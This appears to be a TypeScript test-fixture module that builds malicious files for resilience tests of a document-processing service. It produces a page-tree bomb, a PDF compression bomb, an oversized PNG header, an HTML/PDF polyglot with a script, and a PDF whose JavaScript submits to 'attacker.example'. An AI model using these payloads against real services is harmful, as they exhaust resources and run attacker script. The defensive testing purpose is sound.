import { constants, deflateRawSync } from 'node:zlib';

/**
 * Files made to hurt a service that reads them, for the tests that prove it is not hurt: each
 * a small, well-formed PDF (a valid cross-reference table) or image header that claims or
 * expands to far more than it is.
 */

/** A PDF from its objects (1-based, in order), with a correct cross-reference table. */
export function pdfOf(objects: (string | Buffer)[], root = 1, prefix = '%PDF-1.7\n'): Buffer {
  const parts: Buffer[] = [Buffer.from(`${prefix}%\xe2\xe3\xcf\xd3\n`, 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  objects.forEach((body, i) => {
    offsets.push(length);
    const part = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(part);
    length += part.length;
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objects.length + 1} /Root ${root} 0 R >>`,
    'startxref',
    String(length),
    '%%EOF',
  ].join('\n');
  parts.push(Buffer.from(`${xref}\n`));
  return Buffer.concat(parts);
}

/** A page tree whose every node lists the same child twice, `levels` deep: it claims 2^levels pages. */
export function pageTreeBomb(levels = 30): Buffer {
  // 1: catalog; 2..levels+1: tree nodes (2 is the root); levels+2: the one page.
  const objects: string[] = ['<< /Type /Catalog /Pages 2 0 R >>'];
  for (let level = 0; level < levels; level++) {
    const node = 2 + level;
    const child = node + 1;
    const parent = level === 0 ? '' : ` /Parent ${node - 1} 0 R`;
    objects.push(
      `<< /Type /Pages /Kids [${child} 0 R ${child} 0 R] /Count ${2 ** (levels - level)}${parent} >>`,
    );
  }
  objects.push(`<< /Type /Page /Parent ${levels + 1} 0 R /MediaBox [0 0 612 792] >>`);
  return pdfOf(objects);
}

/**
 * A zlib stream of `megabytes` MiB of spaces, made without holding or compressing them all:
 * one MiB compressed alone and flushed in full (so it refers to nothing before it) is the same
 * blocks wherever it stands, so the stream is those blocks `megabytes` times, a last empty
 * block, and the Adler-32 of the whole, which for n equal bytes has a closed form.
 */
function spacesDeflated(megabytes: number): Buffer {
  const mib = 1024 * 1024;
  const block = deflateRawSync(Buffer.alloc(mib, 0x20), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const n = BigInt(megabytes * mib);
  const MOD = 65521n;
  const a = (1n + n * 0x20n) % MOD;
  const b = (n + (0x20n * n * (n + 1n)) / 2n) % MOD;
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE(Number((b << 16n) | a));
  // zlib's header (deflate, 32 KiB window, best compression); a final empty fixed block.
  return Buffer.concat([
    Buffer.from([0x78, 0xda]),
    ...Array(megabytes).fill(block),
    Buffer.from([0x03, 0x00]),
    adler,
  ]);
}

/** One page whose content stream inflates to `megabytes` MiB of spaces (a compression bomb). */
export function inflationBomb(megabytes: number): Buffer {
  const stream = spacesDeflated(megabytes);
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
    Buffer.concat([
      Buffer.from(`<< /Length ${stream.length} /Filter /FlateDecode >>\nstream\n`),
      stream,
      Buffer.from('\nendstream'),
    ]),
  ]);
}

/** A one-page PDF that asks to run JavaScript when opened (an OpenAction) and draws a line of text. */
export function scriptedPdf(): Buffer {
  const content = 'BT /F1 24 Tf 72 700 Td (Scripted page) Tj ET';
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    "<< /S /JavaScript /JS (app.alert('hello'); this.submitForm('https://attacker.example/');) >>",
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

/** A file that is a PDF to a PDF reader and an HTML page with a script to a browser sniffing it. */
export function htmlPolyglot(): Buffer {
  const content = 'BT /F1 24 Tf 72 700 Td (Polyglot) Tj ET';
  return pdfOf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ],
    1,
    '%PDF-1.7\n<html><body><script>document.title="pwned"</script></body></html>\n',
  );
}

/** A PNG header claiming a 100,000-pixel square (its data would take 40 GB decoded). */
export function hugePngHeader(): Buffer {
  const header = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
  const size = Buffer.alloc(8);
  size.writeUInt32BE(100_000, 0);
  size.writeUInt32BE(100_000, 4);
  return Buffer.concat([header, size, Buffer.from('0806000000', 'hex'), Buffer.alloc(64)]);
}
